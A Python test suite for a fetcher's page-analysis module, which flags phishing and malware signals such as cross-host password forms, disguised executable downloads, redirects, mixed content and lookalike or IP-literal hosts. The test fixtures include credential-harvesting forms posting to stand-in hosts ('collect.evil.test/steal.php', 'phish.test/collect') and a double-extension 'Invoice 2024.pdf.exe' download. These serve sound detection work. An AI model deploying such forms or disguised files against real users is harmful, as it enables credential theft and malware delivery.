"""What the report observes about pages and downloads, from markup and headers."""

from __future__ import annotations

import hashlib
import itertools
from collections.abc import Callable
from typing import Any

import pytest

from fetcher.body import Body
from fetcher.bounds import MAX_LIST_ITEMS
from fetcher.content import content_disposition, media_type, refresh_target, select_headers
from fetcher.html import parse_page
from fetcher.observations import analyse, host_facts
from fetcher.outcome import ResponseFacts
from tests.unit.fetcher.servers import Reply, ScriptedServer, replies
from tests.unit.fetcher.support import fetch_loopback, loopback_options

MakeServer = Callable[..., ScriptedServer]

PAGE_URL = "https://shop.example.test/login/index.html"


def response(
    body: bytes, *, headers: list[tuple[str, str]], url: str = PAGE_URL, encoding: Any = None
) -> ResponseFacts:
    return ResponseFacts(
        url=url,
        status_code=200,
        reason="OK",
        http_version="HTTP/1.1",
        headers=tuple(headers),
        body=Body(
            kept=body,
            sha256=hashlib.sha256(body).hexdigest(),
            truncated=False,
            encoding=encoding,
            decoded=True,
        ),
        peer=None,
        port=443,
        tls=None,
        connect_ms=None,
        ttfb_ms=None,
    )


def observe(markup: str, *, url: str = PAGE_URL, **kwargs: Any) -> dict[str, Any]:
    headers = kwargs.pop("headers", [("Content-Type", "text/html; charset=utf-8")])
    final = response(markup.encode(), headers=headers, url=url)
    return analyse(final, requested_url=url).observations


def test_a_password_form_posting_to_another_host_is_flagged() -> None:
    forms = observe(
        '<form action="http://collect.evil.test/steal.php" method="POST">'
        '<input name="user"><input type="Password" name="pw"></form>'
        '<form action="/search"><input name="q"></form>'
    )["forms"]

    assert forms == [
        {
            "action": "http://collect.evil.test/steal.php",
            "action_host": "collect.evil.test",
            "method": "post",
            "has_password": True,
            "cross_origin": True,
            "insecure_action": True,
        },
        {
            "action": "https://shop.example.test/search",
            "action_host": "shop.example.test",
            "method": "get",
            "has_password": False,
            "cross_origin": False,
            "insecure_action": False,
        },
    ]


def test_a_form_without_an_action_submits_to_the_page() -> None:
    (form,) = observe("<form method=post><input type=password></form>")["forms"]

    assert form["action"] is None
    assert form["action_host"] == "shop.example.test"
    assert not form["cross_origin"]
    assert form["has_password"]


def test_scripts_and_iframes_are_counted_with_their_hosts() -> None:
    observations = observe(
        '<script src="https://CDN.example.test/a.js"></script>'
        '<script src="//cdn.example.test/b.js"></script>'
        '<script src="/local.js"></script>'
        "<script>var x = 1;</script><script>var y = 2;</script><script></script>"
        '<iframe src="https://ads.tracker.test/frame"></iframe>'
        '<iframe src="https://ads.tracker.test/other"></iframe>'
        "<iframe srcdoc='<p>hi</p>'></iframe>"
    )

    assert observations["scripts"] == {
        "inline_count": 3,
        "external_count": 3,
        "external_hosts": ["cdn.example.test", "shop.example.test"],
    }
    assert observations["iframes"] == {"count": 3, "hosts": ["ads.tracker.test"]}


def test_meta_refresh_is_resolved_against_the_page() -> None:
    observations = observe(
        '<meta http-equiv="Refresh" content="0; URL=\'/next/page\'"><title>x</title>'
    )

    assert observations["meta_refresh"] == "https://shop.example.test/next/page"


def test_a_refresh_header_is_reported_when_the_page_has_no_meta_refresh() -> None:
    observations = observe(
        "<p>hello</p>",
        headers=[("Content-Type", "text/html"), ("Refresh", "5;url=https://away.test/")],
    )

    assert observations["meta_refresh"] == "https://away.test/"


def test_script_redirects_are_found_in_inline_scripts() -> None:
    observations = observe(
        "<script>"
        "if (a == b) { window.location.href = 'https://one.test/x'; }\n"
        'location.replace("https://two.test/");\n'
        "document.location = `/three`;\n"
        "top.location.assign('https://four.test/');\n"
        "if (location.href == 'https://not-a-redirect.test/') {}\n"
        "</script>"
    )

    assert observations["script_redirects"] == [
        "https://one.test/x",
        "https://two.test/",
        "https://shop.example.test/three",
        "https://four.test/",
    ]


def test_mixed_content_lists_http_subresources_of_an_https_page() -> None:
    observations = observe(
        '<script src="http://cdn.test/a.js"></script>'
        '<img src="http://img.test/p.png"><img src="https://img.test/safe.png">'
        '<link rel="stylesheet" href="http://css.test/s.css">'
        '<link rel="icon" href="http://icons.test/favicon.ico">'
        '<iframe src="http://frame.test/"></iframe>'
        '<form action="http://post.test/submit"></form>'
        '<a href="http://plain-link.test/">links are navigation, not subresources</a>'
    )

    assert observations["mixed_content"] == [
        "http://cdn.test/a.js",
        "http://img.test/p.png",
        "http://css.test/s.css",
        "http://frame.test/",
        "http://post.test/submit",
    ]


def test_an_http_page_has_no_mixed_content() -> None:
    observations = observe('<img src="http://img.test/p.png">', url="http://plain.test/")

    assert observations["mixed_content"] == []


def test_links_count_all_and_list_other_hosts() -> None:
    observations = observe(
        '<a href="/home">home</a><a href="https://shop.example.test/x">self</a>'
        '<a href="https://B.test/">b</a><a href="http://a.test/">a</a><a href="http://a.test/2">a</a>'
        '<a href="mailto:x@y.test">mail</a><a name="anchor">no href</a>'
    )

    assert observations["links"] == {
        "count": 6,
        "external_hosts": ["a.test", "b.test"],
        "targets": ["https://B.test/", "http://a.test/"],
    }


def test_link_targets_are_the_first_link_to_each_other_origin() -> None:
    observations = observe(
        '<a href="https://shop.example.test/self">self</a>'
        '<a href="http://shop.example.test/plain">other scheme</a>'
        '<a href="https://shop.example.test:8443/port">other port</a>'
        '<a href="https://shop.example.test:8443/again">same origin again</a>'
        '<a href="javascript:alert(1)">script</a><a href="HTTPS://Other.test:443/X">x</a>'
    )

    assert observations["links"]["targets"] == [
        "http://shop.example.test/plain",
        "https://shop.example.test:8443/port",
        "https://Other.test:443/X",
    ]
    # Other ports of the page's own host are other origins, not other hosts.
    assert observations["links"]["external_hosts"] == ["other.test"]


def test_link_targets_are_bounded() -> None:
    links = "".join(f'<a href="http://h{number}.test/">x</a>' for number in range(80))

    targets = observe(links)["links"]["targets"]

    assert targets == [f"http://h{number}.test/" for number in range(MAX_LIST_ITEMS)]


def test_the_title_has_its_whitespace_collapsed() -> None:
    final = response(
        b"<html><head><title>\n   Sign in  to\t your\n account  </title></head></html>",
        headers=[("Content-Type", "text/html")],
    )

    assert analyse(final, requested_url=PAGE_URL).title == "Sign in to your account"


def test_a_base_href_changes_where_references_point() -> None:
    observations = observe(
        '<base href="https://elsewhere.test/dir/"><script src="x.js"></script><a href="page">p</a>'
    )

    assert observations["scripts"]["external_hosts"] == ["elsewhere.test"]
    assert observations["links"]["external_hosts"] == ["elsewhere.test"]


def test_an_attachment_with_an_exe_name_is_an_executable_download() -> None:
    final = response(
        b"MZ\x90\x00rest of a PE file",
        headers=[
            ("Content-Type", "application/octet-stream"),
            ("Content-Disposition", 'attachment; filename="Invoice 2024.pdf.exe"'),
        ],
    )

    download = analyse(final, requested_url=PAGE_URL).observations["download"]

    assert download == {
        "attachment": True,
        "filename": "Invoice 2024.pdf.exe",
        "executable": True,
    }


@pytest.mark.parametrize(
    ("headers", "body", "executable"),
    [
        ([("Content-Type", "application/x-msdownload")], b"", True),
        ([("Content-Type", "application/vnd.android.package-archive")], b"", True),
        ([("Content-Type", "application/zip")], b"PK\x03\x04", True),
        ([("Content-Disposition", "attachment; filename=setup.MSI")], b"", True),
        ([("Content-Disposition", "inline; filename=run.ps1")], b"", True),
        ([("Content-Type", "application/octet-stream")], b"\x7fELF\x02\x01", True),
        ([("Content-Type", "application/octet-stream")], b"MZ\x90\x00", True),
        ([("Content-Disposition", "attachment; filename=report.pdf")], b"%PDF-1.7", False),
        ([("Content-Type", "image/png")], b"\x89PNG", False),
    ],
)
def test_executables_are_recognised_by_type_name_or_magic(
    headers: list[tuple[str, str]], body: bytes, executable: bool
) -> None:
    download = analyse(response(body, headers=headers), requested_url=PAGE_URL).observations[
        "download"
    ]

    assert download["executable"] is executable


def test_html_is_sniffed_only_when_the_content_type_says_nothing() -> None:
    markup = b"  <!DOCTYPE html><title>sniffed</title>"

    untyped = analyse(response(markup, headers=[]), requested_url=PAGE_URL)
    octet = analyse(
        response(markup, headers=[("Content-Type", "application/octet-stream")]),
        requested_url=PAGE_URL,
    )
    image = analyse(response(markup, headers=[("Content-Type", "image/png")]), requested_url="x")

    assert untyped.title == "sniffed"
    assert octet.title == "sniffed"
    assert image.title is None


def test_the_charset_comes_from_the_header_or_the_meta_tag() -> None:
    latin = "<title>Caf\u00e9</title>".encode("latin-1")
    from_header = analyse(
        response(latin, headers=[("Content-Type", "text/html; charset=ISO-8859-1")]),
        requested_url=PAGE_URL,
    )
    from_meta = analyse(
        response(b'<meta charset="windows-1252">' + latin, headers=[("Content-Type", "text/html")]),
        requested_url=PAGE_URL,
    )
    bogus = analyse(
        response(latin, headers=[("Content-Type", "text/html; charset=rot13")]),
        requested_url=PAGE_URL,
    )

    assert (from_header.charset, from_header.title) == ("iso-8859-1", "Caf\u00e9")
    assert (from_meta.charset, from_meta.title) == ("windows-1252", "Caf\u00e9")
    assert bogus.title == "Caf\ufffd"


@pytest.mark.parametrize(
    ("url", "facts"),
    [
        ("http://127.0.0.1/", {"ip_literal": True, "punycode": False, "unicode": None}),
        ("http://2130706433/", {"ip_literal": True, "punycode": False, "unicode": None}),
        ("http://0x7f.1/", {"ip_literal": True, "punycode": False, "unicode": None}),
        ("http://[::1]:8080/", {"ip_literal": True, "punycode": False, "unicode": None}),
        ("http://www.example.test/", {"ip_literal": False, "punycode": False, "unicode": None}),
        (
            "http://xn--80ak6aa92e.test/",
            {
                "ip_literal": False,
                "punycode": True,
                "unicode": "\u0430\u0440\u0440\u04cf\u0435.test",
            },
        ),
        (
            "http://b\u00fccher.test/",
            {"ip_literal": False, "punycode": True, "unicode": "b\u00fccher.test"},
        ),
        ("not a url", {"ip_literal": False, "punycode": False, "unicode": None}),
    ],
)
def test_host_facts(url: str, facts: dict[str, Any]) -> None:
    assert host_facts(url) == facts


def test_with_no_response_observations_are_empty_but_describe_the_requested_host() -> None:
    analysis = analyse(None, requested_url="http://xn--bcher-kva.test/")

    assert analysis.headers == {}
    assert analysis.title is None
    observations = analysis.observations
    assert observations["forms"] == []
    assert observations["scripts"] == {"inline_count": 0, "external_count": 0, "external_hosts": []}
    assert observations["download"] == {"attachment": False, "filename": None, "executable": False}
    assert observations["host"] == {
        "ip_literal": False,
        "punycode": True,
        "unicode": "b\u00fccher.test",
    }


def test_selected_headers_are_lower_case_joined_and_cookies_only_counted() -> None:
    selected = select_headers(
        [
            ("Content-Type", "text/html"),
            ("Cache-Control", "no-cache"),
            ("cache-control", "no-store"),
            ("Set-Cookie", "session=secret"),
            ("Set-Cookie", "other=secret"),
            ("X-Powered-By", "not reported"),
        ]
    )

    assert selected == {
        "content-type": "text/html",
        "cache-control": "no-cache, no-store",
        "set-cookie-count": "2",
    }


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('text/HTML; Charset="UTF-8"', ("text/html", "utf-8")),
        ("application/json", ("application/json", None)),
        ("nonsense", (None, None)),
        (None, (None, None)),
    ],
)
def test_media_type(value: str | None, expected: tuple[str | None, str | None]) -> None:
    assert media_type(value) == expected


@pytest.mark.parametrize(
    ("value", "attachment", "filename"),
    [
        ('attachment; filename="a b.exe"', True, "a b.exe"),
        ("attachment; filename*=UTF-8''na%C3%AFve.exe; filename=naive.exe", True, "na\u00efve.exe"),
        ("Attachment; filename=plain.zip", True, "plain.zip"),
        ("inline", False, None),
        (None, False, None),
    ],
)
def test_content_disposition(value: str | None, attachment: bool, filename: str | None) -> None:
    parsed = content_disposition(value)

    assert (parsed.attachment, parsed.filename) == (attachment, filename)


@pytest.mark.parametrize(
    ("value", "target"),
    [
        ("0; url=https://a.test/", "https://a.test/"),
        ("5;URL='/relative'", "/relative"),
        ("3", None),
        ("", None),
    ],
)
def test_refresh_target(value: str, target: str | None) -> None:
    assert refresh_target(value) == target


def test_parsing_stops_when_its_time_budget_runs_out() -> None:
    ticks = itertools.count()

    facts = parse_page(
        "<a href='/x'>x</a>" * 20_000,
        page_url=PAGE_URL,
        budget_seconds=2,
        clock=lambda: float(next(ticks)),
    )

    assert not facts.complete
    assert 0 < facts.links < 20_000


def test_a_page_fetched_from_a_server_is_observed(make_server: MakeServer) -> None:
    page = (
        b"<html><head><title> Welcome \n back </title></head><body>"
        b'<form action="https://phish.test/collect" method="post"><input type="password"></form>'
        b"</body></html>"
    )
    server = make_server(
        replies(Reply(headers=[("Content-Type", "text/html; charset=utf-8")], body=page))
    )

    outcome = fetch_loopback(server.url("/"), options=loopback_options(server.port))
    analysis = analyse(outcome.final, requested_url=server.url("/"))

    assert analysis.title == "Welcome back"
    assert analysis.content_type == "text/html"
    assert analysis.charset == "utf-8"
    (form,) = analysis.observations["forms"]
    assert form["cross_origin"]
    assert form["has_password"]
    assert analysis.observations["host"]["ip_literal"]
